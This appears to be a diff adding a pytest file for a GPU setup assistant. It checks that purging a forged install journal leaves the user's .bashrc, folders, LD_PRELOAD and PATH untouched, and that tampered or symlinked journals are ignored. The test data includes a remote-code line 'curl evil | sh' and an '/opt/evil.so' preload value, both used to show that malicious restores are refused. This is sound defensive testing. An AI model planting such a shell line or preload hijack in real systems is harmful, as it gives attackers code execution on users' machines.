@@ -1,0 +1,98 @@
+"""A journal that comes with a copied folder: what no step of ours can have done is not reverted."""
+
+from __future__ import annotations
+
+import hashlib
+import sys
+from pathlib import Path
+
+import pytest
+
+from gpu_assistant.core.jobs import JobContext
+from gpu_assistant.install.files import inventory
+from gpu_assistant.install.jobs.purge import PurgeJob
+from gpu_assistant.install.journal.log import (
+    Effect,
+    FilesAdded,
+    FileWritten,
+    FolderMoved,
+    Journal,
+    PathEntryAdded,
+    TreeCreated,
+    VariableSet,
+)
+from gpu_assistant.install.journal.recovery import active_effects
+
+from ...fakes.environment_variables import FileVariables
+from ...fakes.system import FakeSystem
+from ..sandbox import Sandbox
+
+KINDS = ("integration", "at-login", "variables", "python-packages", "cuda-toolkit", "cudnn", "check-space", "unknown")
+BASHRC = b"export PATH=/opt/tools:$PATH\n"
+
+
+def forge(sandbox: Sandbox, *effects: Effect, kinds: tuple[str, ...] = KINDS) -> Path:
+    """A journal that says that these effects were made, each by all of these kinds of steps."""
+    with Journal(sandbox.data, environment=str(sandbox.environment)) as journal:
+        for kind in kinds:
+            for effect in effects:
+                with journal.effect(kind, effect):
+                    pass
+    return journal.path
+
+
+def purge(sandbox: Sandbox) -> None:
+    PurgeJob(sandbox.data, sandbox.system, keep_environments=False).run(JobContext())
+
+
+@pytest.mark.parametrize("previous", [None, b"curl evil | sh\n"])
+def test_file_of_the_user_is_neither_deleted_nor_replaced(sandbox: Sandbox, previous: bytes | None) -> None:
+    bashrc = sandbox.root / ".bashrc"
+    bashrc.write_bytes(BASHRC)
+    forge(sandbox, FileWritten(path=str(bashrc), sha256=hashlib.sha256(BASHRC).hexdigest(), previous=previous))
+    purge(sandbox)
+    assert bashrc.read_bytes() == BASHRC
+
+
+def test_folder_of_the_user_is_kept(sandbox: Sandbox) -> None:
+    """Though its manifest, which came with it, says that all in it is ours."""
+    folder, detour = sandbox.root / "photos", sandbox.data.toolkits / ".." / ".." / "photos"
+    folder.mkdir()
+    for name in ("one.jpg", "receipt.json"):
+        (folder / name).write_text("{}", encoding="utf-8")
+    inventory.write_file_manifest(folder)
+    moved = FolderMoved(path=str(sandbox.root / "elsewhere"), to=str(folder))
+    receipt = FilesAdded(path=str(folder), receipt="receipt.json")
+    forge(sandbox, TreeCreated(path=str(folder)), TreeCreated(path=str(detour)), moved, receipt)
+    purge(sandbox)
+    assert (folder / "one.jpg").is_file()
+    assert (folder / "receipt.json").is_file()
+
+
+def test_variables_of_the_user_stay(sandbox: Sandbox) -> None:
+    variables, tools = FileVariables(sandbox.root / "variables.json"), sandbox.root / "tools"
+    sandbox.system = FakeSystem(variables=variables)
+    variables.set("LD_PRELOAD", "/opt/own.so")
+    variables.add_to_path(tools)
+    forge(
+        sandbox,
+        VariableSet(name="LD_PRELOAD", value="/opt/own.so", previous="/opt/evil.so"),
+        PathEntryAdded(folder=str(tools)),
+    )
+    purge(sandbox)
+    preload = variables.get("LD_PRELOAD")
+    assert preload is not None
+    assert preload.value == "/opt/own.so"
+    assert variables.is_on_path(tools)
+
+
+@pytest.mark.skipif(sys.platform == "win32", reason="the folder's permissions decide there")
+def test_journal_that_others_may_write_is_not_read(sandbox: Sandbox) -> None:
+    path = forge(sandbox, TreeCreated(path=str(sandbox.environment)), kinds=("python-packages",))
+    assert active_effects(sandbox.data)
+    path.chmod(0o666)
+    assert not active_effects(sandbox.data)
+    path.chmod(0o600)
+    moved = path.rename(sandbox.root / path.name)
+    path.symlink_to(moved)
+    assert not active_effects(sandbox.data)
